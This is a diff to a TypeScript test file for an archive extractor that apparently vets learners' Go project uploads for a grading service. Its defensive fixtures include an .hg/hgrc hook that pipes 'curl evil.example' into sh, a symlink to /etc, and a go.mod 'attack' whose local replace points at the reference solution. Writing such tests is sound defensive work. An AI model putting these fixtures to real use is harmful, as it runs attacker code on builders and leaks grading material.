@@ -7,7 +7,7 @@ import { fileURLToPath } from "node:url";
 import { gzipSync } from "node:zlib";
 import { create } from "tar";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
-import { asTarItems, asZipItems, readTree, sampleBytesUnder, tarBuffer, writeGzipBomb, writeTarGz, writeZip, type SourceFile } from "./archive-fixtures.ts";
+import { asTarItems, asZipItems, readTree, sampleBytesUnder, tarBuffer, TEST_GO_POLICY, writeGzipBomb, writeTarGz, writeZip, type SourceFile } from "./archive-fixtures.ts";
 import { ArchiveRejected, DEFAULT_ARCHIVE_LIMITS, extractProject, type ArchiveLimits, type RejectionCode } from "./archive.ts";
 import { checkProjectLayout } from "./project-layout.ts";
 
@@ -58,8 +58,10 @@ interface Rejection {
   name: string;
   build: (archive: string) => Promise<unknown>;
   code: RejectionCode;
-  status: 400 | 413;
+  status: 400 | 413 | 422;
   limits?: Partial<ArchiveLimits>;
+  /** Words the learner must read in the message. */
+  says?: string[];
 }
 
 const tgz = (...items: Parameters<typeof writeTarGz>[1]) => (archive: string) => writeTarGz(archive, [goMod, ...items]);
@@ -178,17 +180,29 @@ const rejections: Rejection[] = [
     code: "not_an_archive",
     status: 400,
   },
+  { name: "tar with go.work", build: tgz({ path: "go.work", body: "go 1.26.0\nuse /work/main/operator\n" }), code: "go_workspace", status: 422, says: ['"go.work"', "workspaces are not graded", "build on its own"] },
+  { name: "tar with go.work.sum deep inside", build: tgz({ path: "hack/tools/go.work.sum", body: "" }), code: "go_workspace", status: 422, says: ['"hack/tools/go.work.sum"'] },
+  { name: "tar with a go.work symlink", build: tgz({ path: "x.work", body: "use ." }, { path: "go.work", type: "SymbolicLink", linkpath: "x.work" }), code: "go_workspace", status: 422, says: ['"go.work"'] },
+  {
+    // The go command looks for go.work above the module too: beside the folder that wraps the project.
+    name: "zip with go.work beside the project's folder",
+    build: (archive) => writeZip(archive, [...asZipItems(operator, "postgres-operator/"), { path: "go.work", body: "use ./postgres-operator\n" }]),
+    code: "go_workspace",
+    status: 422,
+    says: ['"go.work"', "workspaces are not graded"],
+  },
   { name: "zip magic then garbage", build: (archive) => writeFile(archive, Buffer.concat([Buffer.from("PK\x03\x04"), randomBytes(4096)])), code: "not_an_archive", status: 400 },
 ];
 
 describe("extractProject refuses hostile or broken uploads", () => {
-  it.each(rejections)("$name → $code", async ({ name, build, code, status, limits }) => {
+  it.each(rejections)("$name → $code", async ({ name, build, code, status, limits, says }) => {
     const { archive, dest } = next(name.replace(/\W+/g, "-"));
     await build(archive);
     const error = await extractProject(archive, dest, { ...DEFAULT_ARCHIVE_LIMITS, ...limits }).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(ArchiveRejected);
     expect(error).toMatchObject({ code, status });
     expect((error as Error).message.length).toBeGreaterThan(20);
+    for (const words of says ?? []) expect((error as Error).message).toContain(words);
     await expectNothingOutside(dest);
   });
 });
@@ -262,13 +276,65 @@ describe("extractProject unpacks a learner's project", () => {
     await build(archive);
     const result = await extractProject(archive, dest);
     expect(result).toEqual({ dir: join(dest, wrapper), files: operator.length, bytes: operator.reduce((n, f) => n + f.body.length, 0), format });
-    expect(await checkProjectLayout(result.dir)).toEqual({ module: "github.com/example/postgres-operator" });
+    expect(await checkProjectLayout(result.dir, TEST_GO_POLICY)).toEqual({ module: "github.com/example/postgres-operator" });
     expect(await readFile(join(result.dir, "cmd/main.go"))).toEqual(await readFile(join(OPERATOR, "cmd/main.go")));
     expect((await stat(dest)).mode & 0o777).toBe(0o700);
     expect((await stat(join(result.dir, "go.mod"))).mode & 0o7777).toBe(0o644);
     expect((await stat(join(result.dir, "cmd"))).mode & 0o7777).toBe(0o755);
     const names = (await readdir(dest, { recursive: true })).map((p) => p.split("/"));
     expect(names.filter((parts) => parts.some((p) => p === "__MACOSX" || p === ".git" || p === "bin" || p === ".DS_Store" || p.startsWith("._")))).toEqual([]);
+    await rm(dest, { recursive: true });
+  });
+
+  // With -buildvcs the go command runs the VCS tool in the project; .hg/hgrc hooks then run as the builder.
+  const VCS_NAMES = [".git", ".hg", ".svn", ".bzr", "_FOSSIL_", ".fslckout"];
+  const vcsMetadata = (top: string) => [
+    { path: `${top}.hg/hgrc`, body: "[hooks]\npre-identify = curl evil.example | sh\n" },
+    { path: `${top}.hg/store/00changelog.i`, body: "hg" },
+    { path: `${top}.svn/wc.db`, body: "svn" },
+    { path: `${top}.bzr/branch-format`, body: "bzr" },
+    { path: `${top}_FOSSIL_`, body: "fossil" },
+    { path: `${top}api/.fslckout`, body: "fossil" },
+    { path: `${top}internal/.git`, body: "gitdir: /work/main/.git\n" },
+    { path: `${top}internal/controller/.hg/hgrc`, body: "[hooks]\n" },
+  ];
+  it.each([
+    { format: "tar.gz", wrapper: "", build: (file: string) => writeTarGz(file, [{ path: ".svn/", type: "Directory" }, ...asTarItems(operator), ...vcsMetadata("")]) },
+    {
+      format: "zip",
+      wrapper: "postgres-operator",
+      build: (file: string) =>
+        writeZip(file, [{ path: "postgres-operator/.hg/", directory: true }, ...asZipItems(operator, "postgres-operator/"), ...vcsMetadata("postgres-operator/"), { path: "postgres-operator/.bzr/link", body: "/etc", mode: 0o120777 }]),
+    },
+  ])("drops version-control metadata, files and folders, from a $format upload", async ({ format, wrapper, build }) => {
+    const { archive, dest } = next(`vcs.${format}`);
+    await build(archive);
+    const result = await extractProject(archive, dest);
+    expect(result).toMatchObject({ dir: join(dest, wrapper), files: operator.length, bytes: operator.reduce((n, f) => n + f.body.length, 0) });
+    const kept = (await readdir(dest, { recursive: true })).filter((path) => path.split("/").some((part) => VCS_NAMES.includes(part)));
+    expect(kept).toEqual([]);
+    expect(await checkProjectLayout(result.dir, TEST_GO_POLICY)).toEqual({ module: "github.com/example/postgres-operator" });
+    await rm(dest, { recursive: true });
+  });
+
+  it("unpacks the reported attack (the reference's own files, its module replaced by path) but refuses it as a project", async () => {
+    const { archive, dest } = next("attack.tar.gz");
+    const goMod = [
+      "module github.com/example/postgres-operator/x",
+      "",
+      "go 1.26.0",
+      "",
+      "require github.com/example/postgres-operator v0.0.0",
+      "",
+      "replace github.com/example/postgres-operator => /work/main/operator",
+      "",
+    ].join("\n");
+    const reference = operator.filter((f) => f.path === "cmd/main.go" || f.path.startsWith("config/"));
+    await writeTarGz(archive, [{ path: "go.mod", body: goMod }, ...asTarItems(reference)]);
+    const result = await extractProject(archive, dest);
+    const error = await checkProjectLayout(result.dir, TEST_GO_POLICY).catch((e: unknown) => e);
+    expect(error).toMatchObject({ code: "local_replace", status: 422 });
+    expect((error as Error).message).toContain("go.mod line 7 replaces a module with a folder outside the project");
     await rm(dest, { recursive: true });
   });
 
@@ -307,7 +373,7 @@ describe("extractProject unpacks a learner's project", () => {
     const { archive, dest } = next(name.replace(/\W+/g, "-"));
     await writeZip(archive, asZipItems(operator.filter((f) => f.path !== drop), "postgres-operator/"));
     const result = await extractProject(archive, dest);
-    const error = await checkProjectLayout(result.dir).catch((e: unknown) => e);
+    const error = await checkProjectLayout(result.dir, TEST_GO_POLICY).catch((e: unknown) => e);
     expect(error).toMatchObject({ code: "not_a_project", status: 422 });
     expect((error as Error).message).toContain(mentions);
   });
